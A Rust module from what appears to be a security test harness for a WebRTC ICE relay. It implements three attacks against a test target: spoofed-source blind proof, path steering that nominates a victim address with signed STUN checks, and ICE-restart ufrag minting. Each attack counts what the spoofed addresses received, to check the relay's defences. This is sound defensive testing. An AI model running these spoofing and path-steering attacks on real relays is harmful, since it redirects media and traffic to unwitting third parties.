//! Attacks made with real sessions: str0m clients that sign up at the transceiver and whose
//! datagrams an attacker's proxy sends on from addresses of its choosing (spoofed sources
//! that never receive, or a third party's), and ICE restarts that mint ufrags. Each one
//! counts what the addresses it used received, so the report shows what the system sent
//! towards sources that never asked.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use ufrag_common::stun::{StunClass, StunWriter, attr};
use ufrag_testbed::http::{HttpResponse, request_from};
use ufrag_testbed::webrtc_client::Client;

use super::{AttackTally, Sources, Target, paced};

/// Sessions the blind-proof and path-steering attackers sign up: eight per address (an
/// address's unconnected-session cap), on two addresses.
const SESSIONS: usize = 16;
/// Spoofed sources each blind-proof session sends from in turn.
const SPOOFED_PER_SESSION: u8 = 48;
/// How long a blind-proof session sends from one spoofed source before the next.
const SOURCE_TURN: Duration = Duration::from_millis(250);
/// How long the path-steering proxy holds the client's next DTLS flight back.
const HOLD_FLIGHT: Duration = Duration::from_millis(1_500);
/// How often a path-steering attacker nominates its victim again.
const RENOMINATE: Duration = Duration::from_millis(500);
/// Spoofed sources that send each ufrag a restart mints (each a fresh source while they
/// last: a source that already has a flow would only use it).
const MINTED_SOURCES: u8 = 8;
/// Spoofed sources the restart minter has, in turn.
const MINTING_POOL: u8 = 128;

/// What addresses that never asked for anything received.
#[derive(Clone, Copy, Debug, Default)]
struct Received {
    datagrams: u64,
    bytes: u64,
    not_stun: u64,
}

impl Received {
    fn add(&mut self, datagram: &[u8]) {
        self.datagrams += 1;
        self.bytes += datagram.len() as u64;
        self.not_stun += u64::from(!is_stun(datagram));
    }
}

fn is_stun(datagram: &[u8]) -> bool {
    datagram.first().is_some_and(|b| *b < 4)
}

fn is_dtls(datagram: &[u8]) -> bool {
    datagram.first().is_some_and(|b| (20..=63).contains(b))
}

/// The value of SDP attribute `name` (`a=name:value`).
fn sdp_attribute<'s>(sdp: &'s str, name: &str) -> Option<&'s str> {
    let prefix = format!("a={name}:");
    sdp.lines()
        .find_map(|line| line.trim().strip_prefix(prefix.as_str()))
}

/// A connectivity check as the client may sign it: `username` (server:client ufrag),
/// MESSAGE-INTEGRITY under the server's `password`, nominating when `nominate`.
fn signed_check(username: &str, password: &str, transaction: [u8; 12], nominate: bool) -> Vec<u8> {
    let mut buf = [0u8; 256];
    let mut writer =
        StunWriter::new(&mut buf, 0x001, StunClass::Request, &transaction).expect("a header fits");
    writer
        .attribute(attr::USERNAME, username.as_bytes())
        .and_then(|w| w.attribute(attr::PRIORITY, &0x7FFF_FFFFu32.to_be_bytes()))
        .and_then(|w| w.attribute(attr::ICE_CONTROLLING, &[1; 8]))
        .expect("the attributes fit");
    if nominate {
        writer
            .attribute(attr::USE_CANDIDATE, &[])
            .expect("USE-CANDIDATE fits");
    }
    writer
        .integrity(password.as_bytes())
        .and_then(|w| w.fingerprint())
        .expect("integrity and fingerprint fit");
    let len = writer.finish();
    buf[..len].to_vec()
}

/// A 12-byte transaction id from a counter and a tag.
fn transaction(tag: u8, n: u64) -> [u8; 12] {
    let mut t = [tag; 12];
    t[4..].copy_from_slice(&n.to_be_bytes());
    t
}

/// A str0m client from `client_ip` signed up at the transceiver, its answer rewritten so
/// that it talks to `proxy` where the answer names the relay's VIP; `None` if the sign-up
/// was refused.
fn sign_up_via_proxy(target: &Target, client_ip: IpAddr, proxy: SocketAddr) -> Option<Client> {
    let IpAddr::V4(v4) = client_ip else {
        return None;
    };
    let mut client = Client::new_on(v4);
    let offer = client.offer.clone();
    let mut answer = request_from(
        client_ip,
        target.http,
        "POST",
        "/v1/sessions",
        Some(("application/sdp", &offer)),
        &[],
    )?;
    if answer.status != 201 {
        return None;
    }
    let vip = format!("{} {}", target.vip.ip(), target.vip.port());
    answer.body = answer
        .body
        .replace(&vip, &format!("{} {}", proxy.ip(), proxy.port()));
    client.apply_answer(&answer);
    Some(client)
}

/// One of [`SESSIONS`] signed-up sessions whose client talks through a proxy of the
/// attacker's.
struct ProxiedSession {
    /// Its number, 0..[`SESSIONS`].
    index: usize,
    client: Client,
    proxy: UdpSocket,
    credentials: CheckCredentials,
}

/// Signs up [`SESSIONS`] sessions, eight from each address on /24s `first_net` and up
/// (an address's unconnected-session cap), each client talking through a proxy of its
/// own on its /24; a session whose sign-up was refused is left out.
fn proxied_sessions(
    target: &Target,
    sources: Sources,
    first_net: u8,
) -> std::io::Result<Vec<ProxiedSession>> {
    let mut sessions = Vec::new();
    for index in 0..SESSIONS {
        let net = first_net + (index / 8) as u8;
        let proxy = socket_on(sources.attacker(net, 101 + (index % 8) as u8).into())?;
        let client_ip = sources.attacker(net, 50).into();
        let Some(client) = sign_up_via_proxy(target, client_ip, proxy.local_addr()?) else {
            continue;
        };
        let Some(credentials) = CheckCredentials::of(&client) else {
            continue;
        };
        sessions.push(ProxiedSession {
            index,
            client,
            proxy,
            credentials,
        });
    }
    Ok(sessions)
}

/// A UDP socket bound on `ip`, non-blocking.
fn socket_on(ip: IpAddr) -> std::io::Result<UdpSocket> {
    let socket = UdpSocket::bind((ip, 0))?;
    socket.set_nonblocking(true)?;
    Ok(socket)
}

/// One blind-proof session: the client, its proxy, the spoofed sources it sends from in
/// turn, and the credentials it signs each new source's nomination with.
struct BlindSession {
    client: Client,
    proxy: UdpSocket,
    spoofed: Vec<UdpSocket>,
    credentials: CheckCredentials,
    /// The turn whose source has sent its nomination.
    nominated_turn: Option<usize>,
}

/// What a client signs its checks with: `server:client` ufrags and the server's password.
struct CheckCredentials {
    username: String,
    password: String,
}

impl CheckCredentials {
    /// The credentials of `client`'s session, once it has an answer.
    fn of(client: &Client) -> Option<Self> {
        let answer = client.answer.as_deref()?;
        Some(CheckCredentials {
            username: format!(
                "{}:{}",
                sdp_attribute(answer, "ice-ufrag")?,
                sdp_attribute(&client.offer, "ice-ufrag")?
            ),
            password: sdp_attribute(answer, "ice-pwd")?.to_string(),
        })
    }

    /// A nominating check with transaction `n` of `tag`.
    fn nomination(&self, tag: u8, n: u64) -> Vec<u8> {
        signed_check(&self.username, &self.password, transaction(tag, n), true)
    }
}

/// Blind proof with retransmissions: [`SESSIONS`] real sessions, each client's datagrams
/// (its checks, its ClientHello and every retransmission) sent on from a new spoofed
/// source every [`SOURCE_TURN`]; only the answers to its checks (which an attacker can
/// predict) reach the client. Before the transceiver held DTLS for a path that answered a
/// probe, each source got the server's flight and the relay counted its flow as proven.
pub(super) fn blind_proof(
    target: &Target,
    sources: Sources,
    stop: &AtomicBool,
    limit: Duration,
) -> std::io::Result<AttackTally> {
    let start = Instant::now();
    let mut sessions = Vec::new();
    for session in proxied_sessions(target, sources, 96)? {
        let i = session.index;
        let spoofed = (0..SPOOFED_PER_SESSION)
            .map(|s| {
                let host = 1 + (i % 4) as u8 * SPOOFED_PER_SESSION + s;
                socket_on(sources.attacker(98 + (i / 4) as u8, host).into())
            })
            .collect::<std::io::Result<Vec<_>>>()?;
        sessions.push(BlindSession {
            client: session.client,
            proxy: session.proxy,
            spoofed,
            credentials: session.credentials,
            nominated_turn: None,
        });
    }
    let (mut sent, mut sent_bytes, mut received) = (0u64, 0u64, Received::default());
    let mut buf = [0u8; 2048];
    while start.elapsed() < limit && !stop.load(Ordering::Relaxed) {
        let turn = (start.elapsed().as_millis() / SOURCE_TURN.as_millis()) as usize;
        for session in &mut sessions {
            session.client.step();
            let from = &session.spoofed[turn % session.spoofed.len()];
            if session.nominated_turn != Some(turn) {
                // A new source: a nomination of its own first, so that it gets a flow.
                session.nominated_turn = Some(turn);
                let check = session.credentials.nomination(0xb1, sent);
                if from.send_to(&check, target.vip).is_ok() {
                    sent += 1;
                    sent_bytes += check.len() as u64;
                }
            }
            while let Ok((n, _)) = session.proxy.recv_from(&mut buf) {
                if from.send_to(&buf[..n], target.vip).is_ok() {
                    sent += 1;
                    sent_bytes += n as u64;
                }
            }
            for socket in &session.spoofed {
                while let Ok((n, _)) = socket.recv_from(&mut buf) {
                    received.add(&buf[..n]);
                    // A Binding success: the attacker can predict it, so it is passed on.
                    if buf[..n].starts_with(&[0x01, 0x01]) {
                        let _ = session.proxy.send_to(&buf[..n], session.client.local);
                    }
                }
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    let sources_used = sessions.len() as u64 * u64::from(SPOOFED_PER_SESSION);
    Ok(AttackTally {
        sent,
        accepted: sessions.len() as u64,
        elapsed: start.elapsed(),
        detail: Some(format!(
            "{sent} datagrams ({sent_bytes} bytes: a nomination from each new source, the \
             client's checks, ClientHellos and their retransmissions) of {} signed-up \
             sessions from up to {sources_used} spoofed sources; the sources got {} \
             datagrams, {} bytes ({:.2} of the bytes sent from them), {} not STUN",
            sessions.len(),
            received.datagrams,
            received.bytes,
            received.bytes as f64 / sent_bytes.max(1) as f64,
            received.not_stun,
        )),
        ..AttackTally::default()
    })
}

/// One path-steering session: the client, its proxy (the attacker's real address), the
/// victim it nominates, and the DTLS it holds back.
struct SteeringSession {
    client: Client,
    proxy: UdpSocket,
    victim: UdpSocket,
    credentials: CheckCredentials,
    held: Vec<Vec<u8>>,
    hold_until: Option<Instant>,
    last_nomination: Option<Instant>,
}

/// Path steering: [`SESSIONS`] real sessions connect from the attacker's own address;
/// when the server's first DTLS flight arrives, each nominates a victim V (a signed
/// check with USE-CANDIDATE sent from V's address) and holds its own next flight for
/// [`HOLD_FLIGHT`], so that the server's timed retransmission would go to V; then it goes
/// on nominating V every [`RENOMINATE`]. Before the path had to answer a probe, V became
/// the verified path and received the session's media.
pub(super) fn path_steering(
    target: &Target,
    sources: Sources,
    stop: &AtomicBool,
    limit: Duration,
) -> std::io::Result<AttackTally> {
    let start = Instant::now();
    let mut sessions = Vec::new();
    for session in proxied_sessions(target, sources, 110)? {
        let i = session.index;
        sessions.push(SteeringSession {
            victim: socket_on(
                sources
                    .attacker(112 + (i / 8) as u8, 1 + (i % 8) as u8)
                    .into(),
            )?,
            client: session.client,
            proxy: session.proxy,
            credentials: session.credentials,
            held: Vec::new(),
            hold_until: None,
            last_nomination: None,
        });
    }
    let (mut nominations, mut nominated_bytes, mut victims) = (0u64, 0u64, Received::default());
    let mut buf = [0u8; 2048];
    while start.elapsed() < limit && !stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        for session in &mut sessions {
            session.client.step();
            while let Ok((n, from)) = session.proxy.recv_from(&mut buf) {
                let datagram = &buf[..n];
                if from != session.client.local {
                    // From the relay: the server's first DTLS flight starts the hold.
                    if is_dtls(datagram) && session.hold_until.is_none() {
                        session.hold_until = Some(now + HOLD_FLIGHT);
                    }
                    let _ = session.proxy.send_to(datagram, session.client.local);
                    continue;
                }
                if session.hold_until.is_some_and(|until| now < until) && is_dtls(datagram) {
                    session.held.push(datagram.to_vec());
                    continue;
                }
                let _ = session.proxy.send_to(datagram, target.vip);
            }
            let holding = session.hold_until.is_some_and(|until| now < until);
            if !holding && !session.held.is_empty() {
                for datagram in session.held.drain(..) {
                    let _ = session.proxy.send_to(&datagram, target.vip);
                }
            }
            let due = session
                .last_nomination
                .is_none_or(|at| now.duration_since(at) >= RENOMINATE);
            if session.hold_until.is_some() && due {
                nominations += 1;
                let check = session.credentials.nomination(0x5e, nominations);
                if session.victim.send_to(&check, target.vip).is_ok() {
                    nominated_bytes += check.len() as u64;
                }
                session.last_nomination = Some(now);
            }
            while let Ok((n, _)) = session.victim.recv_from(&mut buf) {
                victims.add(&buf[..n]);
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    let connected = sessions
        .iter()
        .filter(|s| s.client.connected_at.is_some())
        .count();
    Ok(AttackTally {
        sent: nominations,
        accepted: sessions.len() as u64,
        elapsed: start.elapsed(),
        detail: Some(format!(
            "{} signed-up sessions ({connected} connected from the attacker's address) \
             nominated {} victims {nominations} times, holding their next DTLS flight \
             {HOLD_FLIGHT:?}; the victims got {} datagrams, {} bytes ({:.2} of the bytes \
             sent from them), {} not STUN",
            sessions.len(),
            sessions.len(),
            victims.datagrams,
            victims.bytes,
            victims.bytes as f64 / nominated_bytes.max(1) as f64,
            victims.not_stun,
        )),
        ..AttackTally::default()
    })
}

/// Restart minting: one signed-up session PATCHes ICE restarts from one address at up to
/// `rate` per second; every new server ufrag it is given is used at once in signed first
/// requests from [`MINTED_SOURCES`] spoofed sources. Before restarts kept the session's
/// identity, each new ufrag had a per-session flow cap of its own.
pub(super) fn restart_minting(
    target: &Target,
    sources: Sources,
    rate: u64,
    stop: &AtomicBool,
    limit: Duration,
) -> std::io::Result<AttackTally> {
    let address: IpAddr = sources.attacker(120, 1).into();
    let IpAddr::V4(v4) = address else {
        unreachable!("the attacker's addresses are IPv4")
    };
    let offer = Client::new_on(v4).offer;
    let signed_up = request_from(
        address,
        target.http,
        "POST",
        "/v1/sessions",
        Some(("application/sdp", &offer)),
        &[],
    );
    let Some(location) = signed_up
        .as_ref()
        .filter(|r| r.status == 201)
        .and_then(|r| r.header("Location").map(str::to_string))
    else {
        return Err(std::io::Error::other(format!(
            "the attacker's sign-up was refused: {:?}",
            signed_up.map(|r| r.status)
        )));
    };
    let spoofed = (1..=MINTING_POOL)
        .map(|host| socket_on(sources.attacker(121, host).into()))
        .collect::<std::io::Result<Vec<_>>>()?;
    let (mut minted, mut checks, mut check_bytes) = (0u64, 0u64, 0u64);
    let mut received = Received::default();
    let mut buf = [0u8; 2048];
    let mut tally = paced(rate, stop, limit, |i| {
        for socket in &spoofed {
            while let Ok((n, _)) = socket.recv_from(&mut buf) {
                received.add(&buf[..n]);
            }
        }
        let client_ufrag = format!("r{i:07}");
        let fragment = format!("a=ice-ufrag:{client_ufrag}\r\na=ice-pwd:{:0>24}\r\n", i);
        let Some(answer) = request_from(
            address,
            target.http,
            "PATCH",
            &location,
            Some(("application/trickle-ice-sdpfrag", &fragment)),
            &[],
        ) else {
            return false;
        };
        if let Some((server_ufrag, password)) = restart_credentials(&answer) {
            minted += 1;
            let username = format!("{server_ufrag}:{client_ufrag}");
            for _ in 0..MINTED_SOURCES {
                let socket = &spoofed[checks as usize % spoofed.len()];
                checks += 1;
                let check = signed_check(&username, &password, transaction(0x3a, checks), true);
                if socket.send_to(&check, target.vip).is_ok() {
                    check_bytes += check.len() as u64;
                }
            }
        }
        true
    });
    // What was answered after the last request.
    std::thread::sleep(Duration::from_millis(100));
    for socket in &spoofed {
        while let Ok((n, _)) = socket.recv_from(&mut buf) {
            received.add(&buf[..n]);
        }
    }
    tally.accepted = minted;
    tally.detail = Some(format!(
        "{} ICE restarts PATCHed ({:.0}/s for {:.1} s) from one address, {minted} answered \
         with a new ufrag; {checks} signed first requests with them, {MINTED_SOURCES} \
         per ufrag, from a fresh spoofed source each (of {MINTING_POOL} in turn); the \
         sources got {} datagrams, {} bytes ({:.2} of the bytes sent from them), {} not \
         STUN",
        tally.sent,
        tally.rate(),
        tally.elapsed.as_secs_f64(),
        received.datagrams,
        received.bytes,
        received.bytes as f64 / check_bytes.max(1) as f64,
        received.not_stun,
    ));
    Ok(tally)
}

/// The server's new ufrag and password from a 200 answer to an ICE restart's PATCH.
fn restart_credentials(answer: &HttpResponse) -> Option<(String, String)> {
    if answer.status != 200 {
        return None;
    }
    Some((
        sdp_attribute(&answer.body, "ice-ufrag")?.to_string(),
        sdp_attribute(&answer.body, "ice-pwd")?.to_string(),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use ufrag_common::stun::StunView;

    #[test]
    fn a_signed_check_verifies_under_the_servers_password_and_nominates() {
        let check = signed_check("srv:cli", "secret-password-of-22b", [7; 12], true);
        let message = StunView::parse(&check).expect("a STUN message");
        assert_eq!(message.username(), Some(&b"srv:cli"[..]));
        assert!(message.attribute(attr::USE_CANDIDATE).is_some());
        assert_eq!(message.verify_integrity(b"secret-password-of-22b"), Ok(()));
        assert!(message.verify_integrity(b"another-password").is_err());
        let plain = signed_check("srv:cli", "secret-password-of-22b", [7; 12], false);
        let message = StunView::parse(&plain).expect("a STUN message");
        assert!(message.attribute(attr::USE_CANDIDATE).is_none());
    }

    #[test]
    fn what_reaches_an_address_is_told_apart_by_its_first_byte() {
        let mut received = Received::default();
        received.add(&[0x01, 0x01, 0, 0]);
        received.add(&[22, 0xfe, 0xfd]);
        received.add(&[0x80, 111]);
        assert_eq!(
            (received.datagrams, received.bytes, received.not_stun),
            (3, 9, 2)
        );
    }
}
